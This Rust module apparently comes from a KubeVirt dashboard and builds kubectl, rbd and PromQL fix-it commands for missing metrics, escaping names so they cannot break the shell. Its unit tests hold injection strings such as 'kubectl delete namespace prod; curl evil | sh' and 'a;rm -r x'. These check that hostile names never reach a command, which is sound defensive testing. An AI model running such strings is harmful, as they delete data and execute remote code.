//! Commands and sentences that say how to fix a missing figure, used by whatever makes a `Missing` or a
//! source's health. People copy the commands into a shell, and Kubernetes has not checked every name: a name
//! that Kubernetes would reject becomes a placeholder for the reader to fill in.

use std::borrow::Cow;

use super::observation::{Image, Key, SourceError};
use i18n::{msg, permission};
use model::{
    figure::{Missing, Sample},
    message::Message,
    name::in_command,
    reason::Reason,
    source::SourceId,
};

/// Placeholders in commands for names that are empty or not valid.
const NAMESPACE: &str = "NAMESPACE";
const NAME: &str = "NAME";
const NODE: &str = "NODE";
const POD: &str = "POD";
const CLAIM: &str = "CLAIM";
/// The PromQL that shows which namespaces have the most of the series that Prometheus answers with.
const MOST_SERIES: &str =
    r#"topk(10, count by (namespace) ({__name__=~"kubevirt_vmi_.*|kubelet_volume_stats_.*"}))"#;

/// Shows the labels that KubeVirt writes into each series of an instance.
const LABELS: &str = "kubectl get virtualmachineinstances.kubevirt.io --all-namespaces --show-labels";

/// A figure that is missing because its source failed, with its last sample.
pub(super) fn missing(error: &SourceError, fix: Message, last: Option<Sample>) -> Missing {
    Missing { reason: error.reason, detail: error.detail.clone(), fix, last }
}

/// The fix for a source that fails as a whole.
pub(super) fn source(id: SourceId, reason: Reason) -> Message {
    match reason {
        Reason::Forbidden if matches!(id, SourceId::Prometheus | SourceId::Ceph) => msg!(fix.credentials),
        Reason::Forbidden => msg!(fix.grant, permission = permission(id), command = grant(id)),
        Reason::Unauthenticated => msg!(fix.authenticate, command = "wukong-dashboard check"),
        Reason::ApiAbsent => absent(id),
        Reason::TimedOut | Reason::Unreachable => unreachable(id),
        Reason::BadAnswer => msg!(fix.answer, command = ask(id)),
        Reason::Busy => msg!(fix.later),
        Reason::NotConfigured if id == SourceId::VirtHandler => configure(id),
        Reason::TooLarge => too_large(id),
        Reason::NotSampled => msg!(fix.look_sampled, command = "kubectl top nodes"),
        _ => Message::default(),
    }
}

fn too_large(id: SourceId) -> Message {
    match id {
        SourceId::Prometheus => msg!(fix.too_many_series, query = MOST_SERIES),
        SourceId::VirtHandler => msg!(fix.long_labels, command = LABELS),
        SourceId::Ceph => unreachable(id),
        SourceId::Kubelet | SourceId::GuestAgent => msg!(fix.answer, command = ask(id)),
        _ => msg!(fix.too_large, command = look(id)),
    }
}

/// The fix for a source that is not configured: how to configure it.
pub(super) fn configure(id: SourceId) -> Message {
    match id {
        SourceId::VirtHandler => msg!(fix.kubevirt_namespace),
        SourceId::Prometheus => msg!(fix.prometheus_url),
        SourceId::Ceph => msg!(fix.ceph_url),
        _ => msg!(fix.disk_sources),
    }
}

/// Returns the command that grants the smallest tier of permissions that includes the source.
fn grant(id: SourceId) -> &'static str {
    match id {
        // The whole tier, not only its rules: the Deployment of the other tiers does not ask kubelets
        // directly.
        SourceId::Kubelet => "kubectl apply -k deploy/nodes-stats",
        _ => "kubectl apply -f deploy/cluster/rbac.yaml",
    }
}

fn absent(id: SourceId) -> Message {
    match id {
        SourceId::Wukongs => msg!(fix.wukong_crd),
        SourceId::VirtualMachines | SourceId::Instances | SourceId::Migrations => {
            msg!(fix.kubevirt, command = "kubectl get crd | grep kubevirt.io")
        }
        SourceId::VirtHandler => {
            msg!(fix.kubevirt_absent, command = "kubectl get kubevirts --all-namespaces")
        }
        SourceId::PodMetrics => {
            msg!(fix.metrics_server, command = "kubectl get apiservice v1beta1.metrics.k8s.io")
        }
        _ => msg!(fix.api_gone, command = "kubectl api-resources"),
    }
}

fn unreachable(id: SourceId) -> Message {
    match id {
        SourceId::PodMetrics => msg!(
            fix.look_metrics_server,
            command = "kubectl -n kube-system get pods -l k8s-app=metrics-server"
        ),
        SourceId::VirtHandler => msg!(
            fix.look_handlers,
            command = "kubectl get pods --all-namespaces -o wide -l kubevirt.io=virt-handler"
        ),
        SourceId::Kubelet => msg!(fix.look_nodes, command = "kubectl get nodes"),
        SourceId::Prometheus => msg!(fix.look_prometheus),
        SourceId::Ceph => msg!(fix.look_ceph, command = "ceph mgr services"),
        SourceId::GuestAgent => {
            msg!(fix.look_kubevirt_api, command = "kubectl get apiservice v1.subresources.kubevirt.io")
        }
        SourceId::Wukongs
        | SourceId::VirtualMachines
        | SourceId::Instances
        | SourceId::Migrations
        | SourceId::Pods
        | SourceId::Claims
        | SourceId::PersistentVolumes
        | SourceId::Nodes
        | SourceId::ClusterInstancetypes
        | SourceId::Instancetypes
        | SourceId::AccessReviews
        | SourceId::Longhorn => {
            msg!(fix.look_api_server, command = "kubectl get --raw /readyz?verbose")
        }
    }
}

fn ask(id: SourceId) -> &'static str {
    match id {
        SourceId::VirtHandler => {
            "kubectl get --raw /api/v1/namespaces/kubevirt/pods/https:POD:8443/proxy/metrics"
        }
        SourceId::PodMetrics => "kubectl get --raw /apis/metrics.k8s.io/v1beta1/pods",
        SourceId::Kubelet => "kubectl get --raw /api/v1/nodes/NODE/proxy/stats/summary",
        SourceId::GuestAgent => {
            "kubectl get --raw /apis/subresources.kubevirt.io/v1/namespaces/NAMESPACE/virtualmachineinstances/NAME/filesystemlist"
        }
        _ => "kubectl api-resources",
    }
}

/// Returns the command that shows all objects of a source.
fn look(id: SourceId) -> String {
    let resource = match id {
        SourceId::Wukongs => "wukongs.vm.novasphere.dev",
        SourceId::VirtualMachines => "virtualmachines.kubevirt.io",
        SourceId::Instances => "virtualmachineinstances.kubevirt.io",
        SourceId::Migrations => "virtualmachineinstancemigrations.kubevirt.io",
        SourceId::PodMetrics => "pods.metrics.k8s.io",
        SourceId::VirtHandler => "kubevirts.kubevirt.io",
        SourceId::Longhorn => "volumes.longhorn.io",
        SourceId::ClusterInstancetypes => "virtualmachineclusterinstancetypes.instancetype.kubevirt.io",
        SourceId::Instancetypes => "virtualmachineinstancetypes.instancetype.kubevirt.io",
        SourceId::Pods
        | SourceId::Claims
        | SourceId::PersistentVolumes
        | SourceId::Nodes
        | SourceId::Kubelet
        | SourceId::Prometheus
        | SourceId::GuestAgent
        | SourceId::Ceph
        | SourceId::AccessReviews => id.code(),
    };
    format!("kubectl get {resource} --all-namespaces")
}

/// The fix for a missing figure of one VM.
pub(super) fn figure(reason: Reason, namespace: &str, name: &str) -> Message {
    let (namespace, name) = (in_command(namespace, NAMESPACE), in_command(name, NAME));
    match reason {
        Reason::NoPod | Reason::TwoPods | Reason::AmbiguousPod => {
            format!("kubectl -n {namespace} get pods -l kubevirt.io=virt-launcher").into()
        }
        Reason::NoVmName | Reason::SharedVm => {
            format!("kubectl -n {namespace} describe wukong {name}").into()
        }
        Reason::NoAllocation => format!("kubectl -n {namespace} get wukong {name} -o yaml").into(),
        Reason::TooNew => msg!(fix.wait),
        Reason::BlockVolume => block_volume(true, true),
        Reason::AgentOff => msg!(fix.agent_off),
        _ => Message::default(),
    }
}

/// The fix for a VM that does not run: look at its KubeVirt object, or at the Wukong if there is none.
pub(super) fn stuck(namespace: &str, vm_name: &str, name: &str) -> Message {
    let (kind, name) = if vm_name.is_empty() { ("wukong", name) } else { ("virtualmachine", vm_name) };
    let (namespace, name) = (in_command(namespace, NAMESPACE), in_command(name, NAME));
    msg!(fix.describe, command = format!("kubectl -n {namespace} describe {kind} {name}"))
}

/// The fix for a guest that a fault paused.
pub(super) fn paused(namespace: &str, vm_name: &str) -> Message {
    let (namespace, name) = (in_command(namespace, NAMESPACE), in_command(vm_name, NAME));
    msg!(fix.paused, command = format!("kubectl -n {namespace} describe virtualmachineinstance {name}"))
}

/// The command that shows a VirtualMachine.
pub(super) fn virtual_machine(namespace: &str, name: &str) -> Message {
    let (namespace, name) = (in_command(namespace, NAMESPACE), in_command(name, NAME));
    msg!(fix.describe, command = format!("kubectl -n {namespace} get virtualmachine {name} -o yaml"))
}

/// The command that lists instance types; `namespace` is empty for cluster-wide ones.
pub(super) fn instancetypes(id: SourceId, namespace: &str) -> Message {
    let command = match namespace {
        "" => format!("kubectl get {}", id.code()),
        namespace => format!("kubectl -n {} get {}", in_command(namespace, NAMESPACE), id.code()),
    };
    msg!(fix.describe, command = command)
}

/// The command that shows the ControllerRevision of the instance type that a VM starts with.
pub(super) fn revision(namespace: &str, name: &str) -> Message {
    let (namespace, name) = (in_command(namespace, NAMESPACE), in_command(name, NAME));
    msg!(fix.describe, command = format!("kubectl -n {namespace} get controllerrevision {name} -o yaml"))
}

/// The command that shows the file systems a guest's agent lists, as KubeVirt returns them.
pub(super) fn filesystems(namespace: &str, name: &str) -> Message {
    let (namespace, name) = (in_command(namespace, NAMESPACE), in_command(name, NAME));
    let instances =
        format!("/apis/subresources.kubevirt.io/v1/namespaces/{namespace}/virtualmachineinstances");
    msg!(fix.look_filesystems, command = format!("kubectl get --raw {instances}/{name}/filesystemlist"))
}

/// The fix for a block volume, whose usage only the guest knows.
pub(super) fn block_volume(needs_serial: bool, needs_agent: bool) -> Message {
    match (needs_serial, needs_agent) {
        (true, true) => msg!(fix.agent),
        (false, true) => msg!(fix.agent_alone),
        (true, false) => msg!(fix.serial),
        (false, false) => msg!(fix.agent_tells),
    }
}

/// The fix for a volume that the node's kubelet leaves out.
pub(super) fn unlisted(node: &str) -> Message {
    msg!(fix.unlisted, command = summary_of(in_command(node, NODE)))
}

/// The fix for a kubelet that reports no pressure.
pub(super) fn pressure(node: &str) -> Message {
    msg!(fix.pressure, command = summary_of(in_command(node, NODE)))
}

/// The fix for a claim that Prometheus has no series of.
pub(super) fn unscraped(claim: &Key) -> Message {
    let (namespace, name) = (in_command(&claim.namespace, NAMESPACE), in_command(&claim.name, CLAIM));
    let query = format!(
        r#"kubelet_volume_stats_used_bytes{{namespace="{namespace}",persistentvolumeclaim="{name}"}}"#
    );
    msg!(fix.unscraped, query = query)
}

/// The fix for a volume that Longhorn does not know.
pub(super) fn longhorn(handle: &str) -> Message {
    msg!(fix.look_longhorn, command = format!("kubectl get volumes.longhorn.io -A | grep {}", quoted(handle)))
}

/// The fix for an image that Ceph does not know.
pub(super) fn image(image: &Image) -> Message {
    msg!(fix.look_image, command = format!("rbd info {}", spec(image)))
}

/// The fix for an image whose objects Ceph cannot count.
pub(super) fn fast_diff(image: &Image) -> Message {
    let image = spec(image);
    format!("rbd feature enable {image} fast-diff object-map && rbd object-map rebuild {image}").into()
}

/// The fix for an image whose object map is invalid.
pub(super) fn invalid_map(image: &Image) -> Message {
    format!("rbd object-map rebuild {}", spec(image)).into()
}

/// The fix for an image that Ceph does not count because it is mirrored.
pub(super) fn mirrored(image: &Image) -> Message {
    msg!(fix.mirrored, command = format!("rbd du {}", spec(image)))
}

/// Returns `pool/namespace/image`, without the namespace if it is empty.
fn spec(Image { pool, namespace, name, .. }: &Image) -> String {
    let parts = [pool, namespace, name].into_iter().filter(|part| !part.is_empty());
    parts.map(|part| quoted(part)).collect::<Vec<_>>().join("/")
}

/// Quotes a word for the shell: nothing checks what a PersistentVolume calls its backend.
fn quoted(word: &str) -> Cow<'_, str> {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"._-".contains(&byte);
    match word.bytes().all(plain) {
        true => word.into(),
        false => format!("'{}'", word.replace('\'', r"'\''")).into(),
    }
}

/// The fix for a figure that needs another sample.
pub(super) fn next_sample() -> Message {
    msg!(fix.next_sample)
}

/// The fix for a guest whose agent fails.
pub(super) fn guest(reason: Reason, namespace: &str, name: &str) -> Message {
    match reason {
        Reason::Forbidden | Reason::Unauthenticated => source(SourceId::GuestAgent, reason),
        _ => {
            let (namespace, name) = (in_command(namespace, NAMESPACE), in_command(name, NAME));
            let command = format!("kubectl -n {namespace} get virtualmachineinstance {name} -o yaml");
            msg!(fix.look_agent, command = command)
        }
    }
}

/// The fix for a volume whose kubelet fails.
pub(super) fn kubelet(reason: Reason, node: &str) -> Message {
    let node = in_command(node, NODE);
    match reason {
        Reason::Forbidden | Reason::Unauthenticated => source(SourceId::Kubelet, reason),
        Reason::Unreachable | Reason::TimedOut => msg!(fix.node_down, node = node, command = describe(node)),
        _ => msg!(fix.look_node, node = node, command = summary_of(node)),
    }
}

/// The fix for a pod without a sample from metrics-server.
pub(super) fn unsampled(node: &str, namespace: &str, pod: &str) -> Message {
    if node.is_empty() {
        let (namespace, pod) = (in_command(namespace, NAMESPACE), in_command(pod, POD));
        return msg!(fix.top_pod, command = format!("kubectl top pod -n {namespace} {pod}"));
    }
    let node = in_command(node, NODE);
    msg!(fix.unscraped_node, node = node, command = describe(node))
}

/// The fix for memory on hugepages, which no pod's working set counts. `guest_reports`: Prometheus has the
/// guest's own figure, so the VM's page shows it.
pub(super) fn hugepages(guest_reports: bool) -> Message {
    if guest_reports { msg!(fix.hugepages_guest) } else { msg!(fix.hugepages) }
}

fn describe(node: &str) -> String {
    format!("kubectl describe node {node}")
}

fn summary_of(node: &str) -> String {
    format!("kubectl get --raw /api/v1/nodes/{node}/proxy/stats/summary")
}

#[cfg(test)]
mod tests {
    use super::*;
    use i18n::Render;

    #[test]
    fn a_text_that_is_no_name_is_in_no_command() {
        let evil = "n1: kubectl delete namespace prod; curl evil | sh";
        let claim = Key::new(evil, evil);
        for fix in [
            figure(Reason::NoPod, evil, evil),
            figure(Reason::NoVmName, evil, evil),
            figure(Reason::NoAllocation, "shop", evil),
            stuck("shop", evil, "web"),
            stuck(evil, "", evil),
            unlisted(evil),
            unscraped(&claim),
            guest(Reason::Unreachable, evil, evil),
            kubelet(Reason::Unreachable, evil),
            kubelet(Reason::BadAnswer, evil),
            unsampled(evil, "shop", "pod"),
            unsampled("", evil, evil),
        ] {
            let said = fix.english();
            assert!(!said.contains("delete") && !said.contains("evil"), "{said}");
            let placeholders = ["NAMESPACE", "NAME", "NODE", "POD", "CLAIM"];
            assert!(placeholders.iter().any(|placeholder| said.contains(placeholder)), "{said}");
        }
        assert_eq!(stuck("shop", "web-vm", "web").english().matches("web-vm").count(), 1);
    }

    #[test]
    fn a_name_is_one_word_of_a_command() {
        for (name, want) in [
            ("pvc-1_a.b", "pvc-1_a.b"),
            ("a b", "'a b'"),
            ("a;rm -r x", "'a;rm -r x'"),
            ("it's", r"'it'\''s'"),
        ] {
            assert_eq!(quoted(name), want);
        }
        let image = |namespace: &str| Image {
            pool: "p".into(),
            namespace: namespace.into(),
            name: "i j".into(),
            ..Image::default()
        };
        assert_eq!((spec(&image("")), spec(&image("n"))), ("p/'i j'".into(), "p/n/'i j'".into()));
    }
}
